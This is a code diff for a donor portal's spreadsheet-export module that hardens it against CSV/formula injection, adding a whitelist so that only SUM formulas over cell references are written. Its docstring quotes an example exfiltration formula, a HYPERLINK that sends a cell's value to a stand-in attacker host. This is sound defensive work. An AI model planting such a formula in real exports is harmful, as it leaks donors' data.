@@ -3,8 +3,9 @@
 A spreadsheet program runs a cell whose text starts with = + - or @ (or a tab or carriage
 return, which some programs skip first) as a formula: a narrative typed as
 =HYPERLINK("http://evil.example/?leak="&B2,"Click") becomes a link that sends the next
-cell away once a donor clicks it (OWASP "CSV injection"). The portal writes no formulas
-of its own, so every text cell it writes is data:
+cell away once a donor clicks it (OWASP "CSV injection"). The only formulas the portal
+writes are its own totals (SUM over cell references, own_formula_set, after the guard), so
+every text cell it writes is data:
 
 - CSV: inert_cell(value) puts an apostrophe before formula-like text, which spreadsheet
   programs show as text;
@@ -64,3 +65,20 @@ def inert_workbook(workbook: Workbook) -> Workbook:
                     if formula_like(cell.value):
                         cell.quotePrefix = True
     return workbook
+
+
+# The portal's own formulas: SUM over cell references (A1, A1:B9, comma-separated), nothing
+# else, so no text anyone typed can ever make one.
+_OWN_FORMULA = re.compile(
+    r"=SUM\([A-Z]{1,3}[0-9]+(:[A-Z]{1,3}[0-9]+)?(,[A-Z]{1,3}[0-9]+(:[A-Z]{1,3}[0-9]+)?)*\)"
+)
+
+
+def own_formula_set(cell, formula: str) -> None:
+    """Write one of the portal's own formulas (a report's total) into `cell`, after
+    inert_workbook ran: only SUMs of cell references are accepted (ValueError otherwise)."""
+    if not _OWN_FORMULA.fullmatch(formula):
+        raise ValueError(f"Not one of the portal's own formulas: {formula!r}")
+    cell.value = formula
+    cell.data_type = "f"
+    cell.quotePrefix = False
